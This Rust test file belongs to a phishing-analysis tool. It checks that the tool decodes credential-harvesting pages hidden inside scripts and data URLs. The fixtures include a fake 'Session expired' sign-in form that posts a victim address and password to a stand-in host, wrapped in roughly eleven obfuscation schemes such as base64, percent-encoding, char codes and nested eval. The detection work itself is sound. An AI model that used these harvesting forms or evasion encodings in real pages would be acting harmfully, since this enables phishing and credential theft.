//! Pages that carry their content encoded, and the mail addresses of their victims.

use creel_evidence::dissection::LinkContext;
use creel_evidence::{ArtifactId, ArtifactRole, Step};
use creel_openers::{Budget, embedded, html};
use data_encoding::BASE64;
use proptest::prelude::*;

fn read(source: &str) -> html::Reading {
    html::read(ArtifactId::of(source.as_bytes()), ArtifactRole::Attachment, source, &mut Budget::default())
}

fn decoded(source: &str) -> Vec<(String, Vec<String>)> {
    let words = |steps: Vec<Step>| steps.iter().map(Step::to_string).collect();
    embedded::decode(source, 0).into_iter().map(|found| (found.text, words(found.steps))).collect()
}

/// Runs the steps over the literal.
fn run(literal: &str, steps: &[Step]) -> Option<String> {
    let mut text = literal.to_owned();
    for step in steps {
        text = match step {
            Step::Decode(decoding) => {
                embedded::apply(*decoding, &text).or_else(|| Some(text.trim().to_owned()))?
            }
            Step::Take(spans) => text.get(spans.first()?.range())?.to_owned(),
            _ => return None,
        };
    }
    Some(text)
}

fn percent(text: &str) -> String {
    text.bytes().map(|b| format!("%{b:02X}")).collect()
}

const PAGE: &str = "<title>Sign in</title><p>Session expired</p><form action='https://kit.example/p.php' method=post>\
                    <input name=e value='ann@victim.example'><input type=password name=p></form>";

#[test]
fn a_page_in_a_script_is_read_whatever_hides_it() {
    let base64 = BASE64.encode(PAGE.as_bytes());
    let hex: String = PAGE.bytes().map(|b| format!("\\x{b:02x}")).collect();
    let codes: Vec<String> = PAGE.bytes().map(|b| b.to_string()).collect();
    let half = base64.len() / 2;
    let scripts = [
        format!("document.write(atob('{base64}'))"),
        format!("document.write(atob('{}' +\n \"{}\"))", &base64[..half], &base64[half..]),
        format!("document.write(unescape('{}'))", percent(PAGE)),
        format!("document.write(decodeURIComponent(escape(atob(\"{base64}\"))))"),
        format!("var x = unescape(atob('{}'))", BASE64.encode(percent(PAGE).as_bytes())),
        format!("document.write(\"{hex}\")"),
        format!("document.write(String.fromCharCode({}))", codes.join(",")),
        format!("const c=[{}];", codes.join(", ")),
        format!("document.write(`{PAGE}`)"),
        format!(
            "x='{}'.split('').reverse().join('')",
            PAGE.replace('\'', "\"").chars().rev().collect::<String>()
        ),
        format!("eval(atob('{}'))", BASE64.encode(format!("document.write(atob('{base64}'))").as_bytes())),
    ];
    for script in scripts {
        let source = format!("<html><script>{script}</script></html>");
        let reading = read(&source);
        let form = reading.page.forms.first().unwrap_or_else(|| panic!("no form in {script}"));
        assert!(form.asks_password(), "{script}");
        assert_eq!(form.target.as_ref().unwrap().text, "https://kit.example/p.php");
        assert_eq!(form.fields[0].value, "ann@victim.example");
        assert!(source[form.span.range()].len() > 20, "the form points at the literal");
        assert_eq!(reading.page.title.unwrap().0, "Sign in");
        assert!(reading.text.visible.text.contains("Session expired"), "{script}");
    }
}

#[test]
fn data_urls_are_followed() {
    let base64 = BASE64.encode(PAGE.as_bytes());
    for source in [
        format!("<a href='data:text/html;base64,{base64}'>open</a>"),
        format!("<iframe src=\"data:text/html,{}\"></iframe>", percent(PAGE)),
        format!("<meta http-equiv=refresh content='0;url=data:text/html;base64,{base64}'>"),
        format!("<iframe srcdoc=\"{}\"></iframe>", PAGE.replace('"', "&quot;")),
        format!("<object data='data:text/html;charset=utf-8;base64,{base64}'></object>"),
    ] {
        assert!(read(&source).page.forms.iter().any(|form| form.asks_password()), "{source}");
    }
}

#[test]
fn what_a_mail_reader_does_not_run_is_not_shown() {
    let source = format!("<script>document.write(unescape('{}'))</script>hello", percent(PAGE));
    let body = html::read(ArtifactId::of(b""), ArtifactRole::Body, &source, &mut Budget::default());
    assert_eq!(body.text.visible.text, "hello");
    assert_eq!(body.page.forms.len(), 1, "but it is found");
}

#[test]
fn urls_and_addresses_in_scripts_are_links() {
    let secret = BASE64.encode(b"https://collect.example/in.php");
    let victim = BASE64.encode(b"ann@victim.example");
    let source = format!(
        "<script>var u='https://open.example/a', s=\"{secret}\"; var v = '{victim}', w='http:\\/\\/slash.example\\/x';</script>\
         <p onclick=\"location.href='https://click.example/'\">"
    );
    let links = read(&source).links;
    let raw: Vec<_> = links.iter().map(|link| link.raw.as_str()).collect();
    for expected in [
        "https://open.example/a",
        "https://collect.example/in.php",
        "mailto:ann@victim.example",
        "http://slash.example/x",
        "https://click.example/",
    ] {
        assert!(raw.contains(&expected), "{expected} in {raw:?}");
    }
    assert!(links.iter().all(|link| link.context == LinkContext::Script && !link.visible));
    let open = links.iter().find(|link| link.raw == "https://open.example/a").unwrap();
    assert_eq!(&source[open.at.range.range()], "https://open.example/a");
    let collect = links.iter().find(|link| link.raw.contains("collect")).unwrap();
    assert_eq!(source[collect.at.range.range()].trim_matches('"'), secret);
}

#[test]
fn what_a_page_in_a_page_runs_points_at_the_literal_that_carries_it() {
    let inner = format!("<p>{}</p><script>location = 'https://kit.example/next'</script>", "x".repeat(400));
    let literal = format!("'{}'", BASE64.encode(inner.as_bytes()));
    let source = format!("<script>document.write(atob({literal}))</script>");
    let links = read(&source).links;
    let link = links.iter().find(|link| link.raw == "https://kit.example/next").unwrap();
    assert_eq!(source.get(link.at.range.range()), Some(literal.as_str()));
}

#[test]
fn ordinary_code_is_left_alone() {
    for code in [
        "element.addEventListener('DOMContentLoaded', initialise);",
        "var a = 'Administrator1234', b = 'abcdefghijklmnop', c = 'the-quick-brown-fox';",
        "if (a<b && c>d) { x = [1, 2, 3]; }",
        "var q = 'https://a.example/?x=%20y%2Fz';",
        "const colours = ['#ffffff', '#000000'];",
        "jQuery('.menu > li').on('click', function () { return false; });",
    ] {
        assert_eq!(decoded(code), [], "{code}");
    }
}

#[test]
fn steps_are_told_from_outside_to_inside() {
    let inner = BASE64.encode(b"a page that was hidden twice");
    assert_eq!(
        decoded(&format!("unescape('{}')", percent(&inner))),
        [(
            "a page that was hidden twice".to_owned(),
            ["js-string", "percent", "base64 text"].map(str::to_owned).to_vec()
        )]
    );
}

#[test]
fn nesting_ends() {
    let mut page = PAGE.to_owned();
    for _ in 0..12 {
        page = format!("<script>document.write(atob('{}'))</script>", BASE64.encode(page.as_bytes()));
    }
    let reading = read(&page);
    assert!(reading.page.forms.is_empty());
    assert_eq!(reading.anomalies[0].word(), "limit-reached:nested-pages");
}

proptest! {
    #[test]
    fn any_code_is_decoded_and_points_inside(code in "(atob\\(|unescape\\(|['\"`\\\\+()\\[\\],./*%&;#xu0-9a-f<>é]|QUJD|%41|fromCharCode\\(|split\\('')*") {
        for found in embedded::decode(&code, 7) {
            prop_assert!(found.span.start >= 7);
            let literal = code.get(found.span.start - 7..found.span.end - 7);
            prop_assert!(!found.steps.is_empty());
            prop_assert_eq!(literal.and_then(|literal| run(literal, &found.steps)), Some(found.text));
        }
    }

    #[test]
    fn what_is_encoded_comes_back(text in "[a-zA-Z ,.]{20,60}") {
        for code in [format!("unescape('{}')", percent(&text)), format!("atob('{}')", BASE64.encode(text.as_bytes()))] {
            let found = decoded(&code);
            prop_assert_eq!(found.len(), usize::from(!text.trim().is_empty()));
            prop_assert!(found.iter().all(|(decoded, _)| *decoded == text));
        }
    }
}
